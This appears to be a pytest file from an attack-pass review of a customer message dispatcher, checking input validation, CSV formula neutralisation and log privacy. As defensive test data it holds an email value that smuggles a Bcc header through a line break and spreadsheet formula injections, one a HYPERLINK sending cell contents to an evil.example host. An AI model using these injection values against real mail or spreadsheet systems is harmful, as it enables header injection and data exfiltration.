"""The attack pass of issue 12: each case that once broke, and what it gets now.

(The property-based fuzz of every input shape is in test_fuzz_inputs.py, template
bounds in test_render_limits.py, concurrent migrations in test_migrations.py.)
"""

from __future__ import annotations

import csv
import io
import logging
from datetime import UTC, datetime

import pytest
from log_privacy import PERSONAL, _handler

from dispatch.csv_safety import safe_cell, safe_row
from dispatch.errors import DispatchError, InvalidData, InvalidRecipient
from dispatch.samples import sample_data, sample_recipient

NOW = datetime(2027, 1, 11, 9, 30, tzinfo=UTC)


def person(**changes):
    return {**sample_recipient("fi", "FI"), **changes}


# -- 1. only DispatchError escapes, and a refusal writes nothing ---------------------------------


@pytest.mark.parametrize(
    ("message_type", "recipient", "data", "error", "fragment"),
    [
        (
            "price_change",
            person(preferred_channels={"default": ["email"]}),
            None,
            InvalidRecipient,
            "preferred_channels['default'] must map a message type or category to a channel name",
        ),
        (
            "marketing",
            person(consents=[{"purpose": "marketing", "channel": ["x"], "granted": True, "at": "2026-01-01"}]),
            None,
            InvalidRecipient,
            "consents[0].channel is not a known channel",
        ),
        ("marketing", person(), {"duration": "²"}, InvalidData, "duration '²' must be a whole number of months"),
        ("marketing", person(), {"duration": "1" * 5000}, InvalidData, "duration '1111"),
        ("marketing", person(), {"duration": "P" + "9" * 5000 + "M"}, InvalidData, "duration 'P999"),
        (
            "price_change",
            person(),
            {"price_elements": [{"name": "x", "unit": "c", "old": "1", "new": "9" * 5000}]},
            InvalidData,
            "price_elements[0].new",
        ),
        ("survey", person(), {"survey_url": "https://example.fi/s\n"}, InvalidData, "is not an http(s) URL"),
        ("price_change", person(), {"extra": float("nan")}, InvalidData, "extra is not a finite number"),
        ("price_change", person(), {"extra": {1, 2}}, InvalidData, "extra holds a set"),
    ],
)
def test_malformed_input_is_a_dispatch_error_and_writes_nothing(
    dispatcher, message_type, recipient, data, error, fragment
):
    values = {**sample_data(message_type, "FI"), **(data or {})}
    with pytest.raises(error) as decided:
        dispatcher.decide(message_type, recipient, values, now=NOW)
    assert fragment in str(decided.value)
    with pytest.raises(error):
        dispatcher.dispatch(message_type, recipient, values, now=NOW)
    assert dispatcher.store.status_counts() == {}


def test_deeply_nested_data_is_refused_not_a_recursion_error(dispatcher):
    deep = "x"
    for _ in range(5000):
        deep = [deep]
    with pytest.raises(InvalidData, match="nests deeper than 32 levels"):
        dispatcher.dispatch("price_change", person(), {**sample_data("price_change"), "notes": deep}, now=NOW)
    assert dispatcher.store.status_counts() == {}


# -- 2. addresses are checked at the door -------------------------------------------------------


@pytest.mark.parametrize("email", ["abc\n@example.fi", "abc@example.fi\n", "abc@example.fi\r\nBcc: x@example.org"])
def test_an_email_with_a_line_break_is_refused_at_dispatch_not_at_delivery(dispatcher, email):
    with pytest.raises(InvalidRecipient, match="email contains a line break") as caught:
        dispatcher.dispatch("price_change", person(email=email), sample_data("price_change"), now=NOW)
    assert "abc" not in str(caught.value)
    assert dispatcher.store.status_counts() == {}


# -- 4. no spreadsheet formulas in any CSV we write ---------------------------------------------


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x")', "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_neutralised(text):
    assert safe_cell(text) == "'" + text
    assert safe_row({"a": text, "n": -5}) == {"a": "'" + text, "n": -5}
    assert safe_row([text, "C-1001"]) == ["'" + text, "C-1001"]


def test_plain_cells_are_left_alone():
    assert [safe_cell(v) for v in ("C-1001", "Åsa", "", "1-2", 3, None)] == ["C-1001", "Åsa", "", "1-2", 3, None]


def test_the_print_manifest_holds_no_formula(make_dispatcher, tmp_path):
    d = make_dispatcher()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    recipient = person(id=evil, email=None)
    receipt = d.dispatch("contract_confirmation", recipient, sample_data("contract_confirmation"), now=NOW)
    assert receipt.channel == "letter"
    d.close()  # delivers, then writes the print batch
    (manifest,) = (tmp_path / "outbox").rglob("batch-*.csv")  # beside the batch PDF for the print house
    rows = list(csv.DictReader(io.StringIO(manifest.read_text(encoding="utf-8"))))
    assert [row["recipient_id"] for row in rows] == ["'" + evil]
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


# -- 5. data cannot forge the render cache's placeholders ----------------------------------------


@pytest.mark.parametrize("forged", ["\ue000qa\ue001", "\ue000qXa\ue001 \ue000za\ue001", "\ue000", "\ue001x"])
def test_private_use_characters_in_data_do_not_turn_into_a_persons_details(make_dispatcher, forged):
    cached = make_dispatcher({"templates": {"render_cache": True}})
    plain = make_dispatcher({"templates": {"render_cache": False}})
    recipient = person(id="C-SECRET-ID")
    data = {**sample_data("renewal_offer"), "product": f"Kiinteä {forged} 24"}
    for _ in range(2):  # the second render comes from the cached variant
        # One moment for both: preference links carry their expiry, signed as of the preview's now.
        parts = cached.preview("renewal_offer", recipient, data, channel="email", now=NOW)
        assert parts == plain.preview("renewal_offer", recipient, data, channel="email", now=NOW)
    assert f"Kiinteä {forged} 24" in parts["text"]


# -- 7. no personal data in logs or errors ------------------------------------------------------


def test_the_log_check_catches_an_address_or_a_number(request):
    logger = logging.getLogger("dispatch.test")
    logger.info("sent to %s", "matti.meikalainen@example.fi")
    logger.warning("number %s refused", "+358401234567")
    logger.info("message %s for recipient %s", "01JABCDEFGHJKMNPQRSTVWXYZ0", "C-1001")
    logging.getLogger("aiosmtpd.test").info("RCPT TO:<matti@example.fi>")  # a test peer's log: not ours
    found = _handler.take(request.node.nodeid)  # taken, so this test itself does not fail
    assert [name for name, _ in found] == ["dispatch.test", "dispatch.test"]
    assert PERSONAL.search("call +46701234567 now") and not PERSONAL.search("C-1001 at 2027-01-11 +0200")


def test_recipient_errors_name_the_field_not_the_value(dispatcher):
    bad = person(
        email="not an address@example.fi",
        phone="+358 40 12",
        birth_date="31.12.1990",
        address={"name": "Matti\x00", "street": "Katu 1", "postal_code": "123", "city": "Helsinki"},
    )
    with pytest.raises(DispatchError) as caught:
        dispatcher.dispatch("price_change", bad, sample_data("price_change"), now=NOW)
    message = str(caught.value)
    for field in ("email", "phone", "birth_date", "address name"):
        assert field in message
    for value in ("not an address", "+358 40 12", "31.12.1990", "Matti"):
        assert value not in message


@pytest.mark.parametrize("now", ["2027-01-11", 1_700_000_000, datetime(2027, 1, 11, 9, 30)])
def test_now_must_be_an_aware_datetime(dispatcher, now):
    with pytest.raises(DispatchError, match="now must be timezone-aware"):
        dispatcher.decide("price_change", person(), sample_data("price_change"), now=now)


@pytest.mark.parametrize(
    ("changes", "fragment"),
    [
        ({"deadline_working_days": "seven"}, "deadline_working_days must be a whole number"),
        ({"sms_max_segments": 0}, "sms_max_segments must be a whole number"),
        ({"notice_field": "nowhere"}, "notice_field must name one of"),
        ({"subscription": ["newsletter"]}, "subscription must be a string"),
    ],
)
def test_a_message_type_from_configuration_is_checked_when_loaded(make_dispatcher, changes, fragment):
    from dispatch.errors import ConfigError

    table = {"category": "service", "channels": ["email"], "fields": {"due_on": "date"}, **changes}
    with pytest.raises(ConfigError, match=fragment):
        make_dispatcher({"message_types": {"reminder": table}})
    fine = {key: value for key, value in table.items() if key not in changes}
    assert make_dispatcher({"message_types": {"reminder": fine}}).types.get("reminder").name == "reminder"
